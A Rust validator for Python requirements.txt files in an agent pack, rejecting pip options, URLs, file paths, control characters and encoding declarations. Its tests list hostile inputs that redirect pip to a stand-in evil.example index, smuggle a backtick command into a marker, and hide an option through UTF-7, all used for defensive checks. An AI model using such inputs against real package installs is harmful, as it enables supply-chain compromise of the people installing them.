//! `requirements.txt`: Python distributions that a pack needs.
//!
//! A pack lists distributions, versions and hashes. Where they come from, and whether their code may run during
//! installation, is configured by the site (`[python]` in `agent.toml`), so pip's options, URLs, paths and references
//! to other files are errors here. The accepted subset is a plain list that pip parses in the same way.

use std::sync::LazyLock;

use regex_lite::Regex;

/// Maximum number of distributions.
pub const MAX_REQUIREMENTS: usize = 500;

/// Required distribution.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Requirement {
    /// Line number, counted from 1.
    pub line: usize,
    /// Name as written.
    pub name: String,
    /// True if exactly one version fits.
    pub pinned: bool,
    /// True if it has hashes of the files to install.
    pub hashed: bool,
}

/// Error returned for an invalid line.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("line {line}: {text:?} {why}")]
pub struct RequirementError {
    line: usize,
    text: String,
    why: String,
}

const SHAPE: &str = r"^([A-Za-z0-9](?:[A-Za-z0-9._-]*[A-Za-z0-9])?)\s*(?:\[[A-Za-z0-9._,\s-]*\])?\s*((?:(?:===|==|~=|!=|<=|>=|<|>)\s*[A-Za-z0-9.*+!_-]+\s*(?:,\s*)?)*)$";
static REQUIREMENT: LazyLock<Regex> = LazyLock::new(|| Regex::new(SHAPE).expect("a valid pattern"));
/// Declaration of an encoding, as pip looks for it in comments of the first two lines (PEP 263).
static ENCODING: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"coding[:=]\s*([-\w.]+)").expect("a valid pattern"));
/// Encodings in which pip reads the same text as we do.
const SAME_TEXT: [&str; 4] = ["utf-8", "utf8", "ascii", "us-ascii"];

/// Parses the file; returns all its errors.
pub fn requirements(text: &str) -> Result<Vec<Requirement>, Vec<RequirementError>> {
    let (mut good, mut bad) = (Vec::new(), Vec::new());
    // Python recognises more line ends than Rust: a comment here could be an option there.
    let foreign = |c: char| (c.is_control() && !matches!(c, '\t' | '\n')) || matches!(c, '\u{2028}' | '\u{2029}');
    for (index, line) in text.lines().enumerate().filter(|(_, line)| line.contains(foreign)) {
        let text = line.escape_debug().take(80).collect();
        bad.push(RequirementError { line: index + 1, text, why: "has a control character".to_owned() });
    }
    for (index, line) in text.lines().enumerate().take(2).filter(|(_, line)| has_other_encoding(line)) {
        let text = line.escape_debug().take(80).collect();
        let why = "declares an encoding, in which pip would read other lines: save the file as UTF-8, without it";
        bad.push(RequirementError { line: index + 1, text, why: why.to_owned() });
    }
    for (line, text) in logical_lines(text) {
        match one(line, &text) {
            Ok(requirement) => good.push(requirement),
            Err(why) => bad.push(RequirementError { line, text: text.chars().take(80).collect(), why }),
        }
    }
    if good.len() > MAX_REQUIREMENTS {
        let why = format!("exceeds the maximum of {MAX_REQUIREMENTS} requirements");
        bad.push(RequirementError {
            line: good[MAX_REQUIREMENTS].line,
            text: good[MAX_REQUIREMENTS].name.clone(),
            why,
        });
    }
    if bad.is_empty() { Ok(good) } else { Err(bad) }
}

/// Returns the part of the file that pip may read: each requirement without its comments, on the line where it begins.
///
/// Comments are not only comments to pip: it obeys the encoding that one declares.
pub fn without_comments(text: &str) -> String {
    let (mut plain, mut lines) = (String::new(), 0);
    for (line, requirement) in logical_lines(text) {
        while lines + 1 < line {
            plain.push('\n');
            lines += 1;
        }
        plain.push_str(&requirement);
        plain.push('\n');
        lines += 1;
    }
    plain
}

/// True for a comment that declares an encoding other than UTF-8: in UTF-7, what is part of a comment here could be an option of
/// pip on a line of its own.
fn has_other_encoding(line: &str) -> bool {
    let declared = if line.starts_with('#') { ENCODING.captures(line) } else { None };
    declared.and_then(|found| found.get(1)).is_some_and(|name| {
        let name = name.as_str().to_ascii_lowercase().replace('_', "-");
        !SAME_TEXT.contains(&name.as_str())
    })
}

/// Returns lines without comments, joined at a final `\` as in pip, each with the number of its first line.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut lines: Vec<(usize, String)> = Vec::new();
    let mut open: Option<(usize, String)> = None;
    for (index, line) in text.lines().enumerate() {
        let is_comment = line.trim_start().starts_with('#');
        let (number, mut joined) = open.take().unwrap_or((index + 1, String::new()));
        // pip ends a joined line at a comment, so a comment within a joined line ends it here too.
        if let Some(before) = line.strip_suffix('\\').filter(|_| !is_comment) {
            joined.push_str(before);
            open = Some((number, joined));
            continue;
        }
        joined.push_str(if is_comment { "" } else { line });
        lines.push((number, joined));
    }
    lines.extend(open);
    let stripped = lines.into_iter().map(|(number, line)| (number, without_comment(&line).trim().to_owned()));
    stripped.filter(|(_, line)| !line.is_empty()).collect()
}

fn without_comment(line: &str) -> &str {
    let starts = |(at, _): &(usize, char)| *at == 0 || line[..*at].ends_with(char::is_whitespace);
    line.char_indices().filter(|(_, c)| *c == '#').find(starts).map_or(line, |(at, _)| &line[..at])
}

fn one(line: usize, text: &str) -> Result<Requirement, String> {
    if text.starts_with('-') {
        return Err(
            "is an option of pip: index, wheels and options are configured by the site, [python] in agent.toml"
                .to_owned(),
        );
    }
    let words: Vec<&str> = text.split_whitespace().collect();
    let options = words.iter().position(|word| word.starts_with('-')).unwrap_or(words.len());
    let hashed = hashes(&words[options..])?;
    let named = words[..options].join(" ");
    let (what, marker) = named.split_once(';').unwrap_or((&named, ""));
    if what.contains('@') || what.contains("://") || what.contains('/') || is_archive(what) {
        return Err("is a URL or a file; write a distribution and its version, such as requests==2.32.3".to_owned());
    }
    if !marker.chars().all(|c| c.is_ascii_graphic() && !matches!(c, '\\' | '$' | '`') || c == ' ') {
        return Err("has an environment marker with invalid characters".to_owned());
    }
    let shape = REQUIREMENT.captures(what.trim()).ok_or("is not a requirement such as requests==2.32.3")?;
    let versions = shape.get(2).map_or("", |m| m.as_str()).trim();
    Ok(Requirement {
        line,
        name: shape.get(1).map_or("", |m| m.as_str()).to_owned(),
        pinned: versions.starts_with("==") && !versions.contains(['*', ',']),
        hashed,
    })
}

/// True if there are hashes; other options are errors.
fn hashes(words: &[&str]) -> Result<bool, String> {
    let mut words = words.iter();
    let mut any = false;
    while let Some(word) = words.next() {
        let hash = match word.strip_prefix("--hash") {
            Some("") => words.next().copied(),
            Some(rest) => rest.strip_prefix('='),
            None => return Err(format!("has the option {word:?}; only --hash=sha256:… is allowed")),
        };
        let good = hash.and_then(|hash| hash.split_once(':')).is_some_and(|(algorithm, hex)| {
            matches!((algorithm, hex.len()), ("sha256", 64) | ("sha384", 96) | ("sha512", 128))
                && hex.bytes().all(|b| b.is_ascii_hexdigit())
        });
        if !good {
            return Err("has a hash that is not sha256, sha384 or sha512 in hexadecimal digits".to_owned());
        }
        any = true;
    }
    Ok(any)
}

/// True for names that pip would treat as a file, if that file exists.
fn is_archive(name: &str) -> bool {
    let name = name.trim().to_ascii_lowercase();
    [".whl", ".zip", ".tar", ".gz", ".bz2", ".xz", ".tgz", ".tbz", ".txz", ".egg"].iter().any(|end| name.ends_with(end))
}

#[cfg(test)]
mod tests {
    use super::*;

    const HASH: &str = "--hash=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn read(text: &str) -> Vec<(usize, String, bool, bool)> {
        let read = requirements(text).unwrap_or_else(|e| panic!("{e:?}"));
        read.into_iter().map(|r| (r.line, r.name, r.pinned, r.hashed)).collect()
    }

    #[test]
    fn names_versions_markers_and_hashes_are_read() {
        let text = format!(
            "# what it needs\n\nrequests[socks]==2.32.3 ; python_version >= '3.8'  # why\nsix>=1.0,<2\n\
             PyYAML == 6.0.2 \\\n    {HASH} \\\n    {HASH}\nplain\nzope.interface~=7.0\nx==1.*\n"
        );
        assert_eq!(
            read(&text),
            [
                (3, "requests".to_owned(), true, false),
                (4, "six".to_owned(), false, false),
                (5, "PyYAML".to_owned(), true, true),
                (8, "plain".to_owned(), false, false),
                (9, "zope.interface".to_owned(), false, false),
                (10, "x".to_owned(), false, false),
            ]
        );
        assert_eq!(read("# nothing\n\n   \n"), []);
    }

    #[test]
    fn options_urls_and_files_are_refused_with_their_line() {
        for (text, words) in [
            ("six\n--index-url https://evil.example/simple", "line 2: \"--index-url"),
            ("-r other.txt", "option of pip"),
            ("-e .", "option of pip"),
            ("--no-binary :all:", "option of pip"),
            ("six --no-binary", "only --hash"),
            ("six --config-settings=x=y", "only --hash"),
            ("six --hash=md5:d41d8cd98f00b204e9800998ecf8427e", "not sha256"),
            ("six --hash=sha256:12", "not sha256"),
            ("six --hash", "not sha256"),
            ("git+https://evil.example/x", "a URL or a file"),
            ("six @ https://evil.example/six.whl", "a URL or a file"),
            ("./vendor/six", "a URL or a file"),
            ("six.whl", "a URL or a file"),
            ("six==1.0; python_version > `id`", "environment marker"),
            ("six==${HOME}", "not a requirement"),
            ("six=1.0", "not a requirement"),
            ("six 1.0", "not a requirement"),
            ("_six", "not a requirement"),
            ("six # \u{2028}--index-url=x", "control character"),
            ("# \u{c}--index-url=x", "control character"),
            ("# \r--index-url=x", "control character"),
            ("six\\\n--index-url=x", "not a requirement"),
            ("six \\\n--index-url=x", "only --hash"),
        ] {
            let said = requirements(text).unwrap_err().iter().map(ToString::to_string).collect::<Vec<_>>().join("; ");
            assert!(said.contains(words), "{text:?}: {said}");
        }
        let many = "six\n".repeat(MAX_REQUIREMENTS + 1);
        assert!(requirements(&many).unwrap_err()[0].to_string().starts_with("line 501"));
    }

    #[test]
    fn no_encoding_makes_pip_read_other_lines() {
        // In UTF-7, "+AAo-" is the end of a line.
        let hidden = "six==1.0\n# +AAo---index-url https://evil.example/simple\n";
        for declared in
            ["# coding: utf-7", "#!x -*- CODING:utf-8 -*- coding=  utf_7", "# vim: set fileencoding=cp037 :"]
        {
            for text in
                [format!("{declared}\n{hidden}"), format!("\n{declared}\n{hidden}"), format!("{declared}\r\n{hidden}")]
            {
                let said = requirements(&text).unwrap_err()[0].to_string();
                assert!(said.contains("declares an encoding"), "{text:?}: {said}");
            }
            // pip looks no further than the second line.
            assert_eq!(read(&format!("\n\n{declared}\n{hidden}")).len(), 1);
        }
        for same in
            ["# -*- coding: UTF-8 -*-", "# coding=utf8", "# coding: utf_8", "# encoding of names", " # coding: utf-7"]
        {
            assert_eq!(read(&format!("{same}\n{hidden}")).len(), 1, "{same}");
        }
    }

    #[test]
    fn pip_reads_no_comment_and_counts_the_same_lines() {
        let text = format!(
            "# coding: utf-8\n\nsix>=1.0,<2  # why é\nPyYAML == 6.0.2 \\\n    {HASH} \\\n    {HASH}\r\nplain\n# end\n"
        );
        let plain = without_comments(&text);
        assert_eq!(plain, format!("\n\nsix>=1.0,<2\nPyYAML == 6.0.2     {HASH}     {HASH}\n\n\nplain\n"));
        assert_eq!(read(&plain), read(&text));
        assert_eq!(without_comments(""), "");
    }
}
